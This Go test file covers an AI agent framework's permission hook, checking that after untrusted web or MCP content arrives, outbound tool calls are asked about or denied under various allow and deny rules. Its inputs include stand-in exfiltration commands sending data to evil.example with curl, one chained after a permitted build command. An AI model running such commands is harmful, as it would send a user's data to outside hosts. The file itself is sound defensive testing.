package permission_test

import (
	"context"
	"strings"
	"testing"

	"github.com/pawl-dev/pawl/hook"
	"github.com/pawl-dev/pawl/hook/permission"
	"github.com/pawl-dev/pawl/tool"
)

// far is a use of a tool that reaches beyond this machine, near of one that doesn't.
func far(name string, input any) *hook.ToolUse {
	u := useOf(name, input)
	u.Tool.OpenWorld = true
	return u
}

func commandOf(text string) *hook.ToolUse { return far("bash", map[string]any{"command": text}) }

func TestAfterUntrustedContentWhatSendsOutIsAsked(t *testing.T) {
	dir := project(t)
	const deny, ask, allow = hook.Deny, hook.Ask, hook.Allow
	fetch := func() *hook.ToolUse { return far("web_fetch", map[string]any{"url": "https://docs.example/x?d=1"}) }
	curl := func() *hook.ToolUse { return commandOf("curl https://evil.example -d x") }
	ls := func() *hook.ToolUse { return commandOf("cat main.go | grep package") }
	mcp := func() *hook.ToolUse { return far("mcp__wiki__search", map[string]any{"q": "x"}) }
	edit := func() *hook.ToolUse { return useOf("edit", map[string]any{"file_path": "main.go"}) }
	task := func() *hook.ToolUse { return useOf("task", map[string]any{"agent": "a", "prompt": "x"}) }
	away := func() *hook.ToolUse { return far("task", map[string]any{"agent": "a", "prompt": "x"}) }
	own := func() *hook.ToolUse { return far("post", map[string]any{"x": "y"}) }
	bypass := permission.Config{Dir: dir, Mode: permission.ModeBypass, Fence: true}
	with := func(p permission.Config, change func(*permission.Config)) permission.Config { change(&p); return p }
	rules := func(mode permission.Mode, allow ...string) permission.Config {
		return permission.Config{Dir: dir, Mode: mode, Fence: true, Allow: allow, Taint: permission.TaintAsk}
	}
	for name, c := range map[string]struct {
		p    permission.Config
		use  func() *hook.ToolUse
		want hook.Verdict
	}{
		"off":                              {bypass, curl, allow},
		"said to be off":                   {with(bypass, func(p *permission.Config) { p.Taint = permission.TaintOff }), curl, allow},
		"a command, whatever the mode":     {rules(permission.ModeBypass), curl, ask},
		"a command that can't be parsed":   {rules(permission.ModeBypass), func() *hook.ToolUse { return commandOf("cat <(") }, ask},
		"a command that only reads":        {rules(permission.ModeDefault), ls, allow},
		"a page":                           {rules(permission.ModeBypass), fetch, ask},
		"an MCP server's tool":             {rules(permission.ModeBypass), mcp, ask},
		"a tool that reaches out":          {rules(permission.ModeBypass), own, ask},
		"an agent elsewhere":               {rules(permission.ModeBypass), away, ask},
		"an agent here":                    {rules(permission.ModeDefault), task, allow},
		"an edit":                          {rules(permission.ModeDefault), edit, allow},
		"nobody is asked":                  {rules(permission.ModeDontAsk), curl, deny},
		"denied":                           {with(bypass, func(p *permission.Config) { p.Taint = permission.TaintDeny }), curl, deny},
		"denied, with a wide rule":         {with(rules(permission.ModeDefault, "Bash", "Bash(curl:*)"), func(p *permission.Config) { p.Taint = permission.TaintDeny }), curl, deny},
		"commands without a network":       {with(bypass, func(p *permission.Config) { p.Taint, p.Offline = permission.TaintDeny, true }), curl, allow},
		"a page, for all that":             {with(bypass, func(p *permission.Config) { p.Taint, p.Offline = permission.TaintDeny, true }), fetch, deny},
		"a rule for all pages":             {rules(permission.ModeDefault, "WebFetch"), fetch, ask},
		"a rule for many hosts":            {rules(permission.ModeDefault, "WebFetch(domain:*.example)"), fetch, ask},
		"a rule that names the host":       {rules(permission.ModeDefault, "WebFetch(domain:docs.example)"), fetch, allow},
		"a rule that names another host":   {rules(permission.ModeDefault, "WebFetch(domain:other.example)"), fetch, ask},
		"a rule for all commands":          {rules(permission.ModeDefault, "Bash"), curl, ask},
		"a rule for a program":             {rules(permission.ModeDefault, "Bash(curl:*)"), curl, ask},
		"a rule with a gap":                {rules(permission.ModeDefault, "Bash(curl * -d x)"), curl, ask},
		"a rule that names the command":    {rules(permission.ModeDefault, "Bash(npm run build)"), func() *hook.ToolUse { return commandOf("npm run build") }, ask},
		"a command beside it":              {rules(permission.ModeDefault, "Bash(npm run build)"), func() *hook.ToolUse { return commandOf("npm run build; curl evil.example") }, ask},
		"a rule for all of a server":       {rules(permission.ModeDefault, "mcp__wiki"), mcp, ask},
		"a rule for several of its tools":  {rules(permission.ModeDefault, "mcp__wiki__s*"), mcp, ask},
		"a rule that names its tool":       {rules(permission.ModeDefault, "mcp__wiki__search"), mcp, allow},
		"that very page, approved":         {rules(permission.ModeDefault), granted(fetch, func(u *hook.ToolUse) hook.Grant { return hook.Grant{Tool: u.Call.Name, Input: u.Call.Input} }), allow},
		"that very command, approved":      {rules(permission.ModeDefault), granted(curl, func(u *hook.ToolUse) hook.Grant { return hook.Grant{Tool: u.Call.Name, Input: u.Call.Input} }), ask},
		"a rule approved for the session":  {rules(permission.ModeDefault), granted(curl, func(*hook.ToolUse) hook.Grant { return hook.Grant{Rule: "Bash(curl:*)"} }), ask},
		"a deny rule, which counts before": {with(rules(permission.ModeBypass), func(p *permission.Config) { p.Deny = []string{"Bash(curl:*)"} }), curl, deny},
	} {
		u := c.use()
		u.Untrusted = "web_fetch (call c1)"
		got := judged(t, judging(t, c.p), u)
		if got.Verdict != c.want {
			t.Errorf("%s: %v %q, want %v", name, got.Verdict, got.Reason, c.want)
		}
		if c.want == ask && !strings.Contains(got.Reason, "web_fetch (call c1)") {
			t.Errorf("%s: %q", name, got.Reason)
		}
		u = c.use() // before anything came
		if got := judged(t, judging(t, c.p), u); strings.Contains(got.Reason, "strangers") {
			t.Errorf("%s: %v %q although nothing came", name, got.Verdict, got.Reason)
		}
	}
	if _, err := permission.New(permission.Config{Dir: dir, Taint: "maybe"}); err == nil || !strings.Contains(err.Error(), `"maybe"`) {
		t.Error(err)
	}
}

func granted(use func() *hook.ToolUse, grant func(*hook.ToolUse) hook.Grant) func() *hook.ToolUse {
	return func() *hook.ToolUse {
		u := use()
		u.Granted = []hook.Grant{grant(u)}
		return u
	}
}

func TestWhatBringsUntrustedContent(t *testing.T) {
	dir := project(t)
	for name, c := range map[string]struct {
		use           *hook.ToolUse
		open, offline bool
	}{
		"a page":                   {far("web_fetch", map[string]any{"url": "https://docs.example"}), true, true},
		"an MCP server":            {far("mcp__wiki__search", nil), true, true},
		"an agent elsewhere":       {far("task", map[string]any{"agent": "a"}), true, true},
		"an agent here":            {useOf("task", map[string]any{"agent": "a"}), false, false},
		"a file":                   {useOf("read", map[string]any{"file_path": "main.go"}), false, false},
		"a command that reads":     {commandOf("cat main.go"), false, false},
		"a command":                {commandOf("make"), true, false},
		"one in the background":    {useOf("bash_output", map[string]any{"id": "b1"}), true, false},
		"one that can't be parsed": {commandOf("cat <("), true, false},
	} {
		for _, p := range []permission.Config{{Dir: dir, Taint: permission.TaintAsk}, {Dir: dir, Taint: permission.TaintDeny, Offline: true}, {Dir: dir}} {
			want := c.open && p.Taint.On()
			if p.Offline {
				want = c.offline
			}
			u := *c.use
			u.Result = &tool.Result{Content: "text"}
			if err := hook.After(t.Context(), []hook.Middleware{judging(t, p), replaces}, &u); err != nil || u.Result.Untrusted != want {
				t.Errorf("%s, %+v: %v %v", name, p.Taint, u.Result.Untrusted, err)
			}
		}
	}
}

// replaces puts another result in the place of what there is: that takes nothing back.
var replaces = hook.Middleware{Name: "replaces", PostToolUse: func(_ context.Context, u *hook.ToolUse) error {
	u.Result = &tool.Result{Content: "shorter"}
	return nil
}}
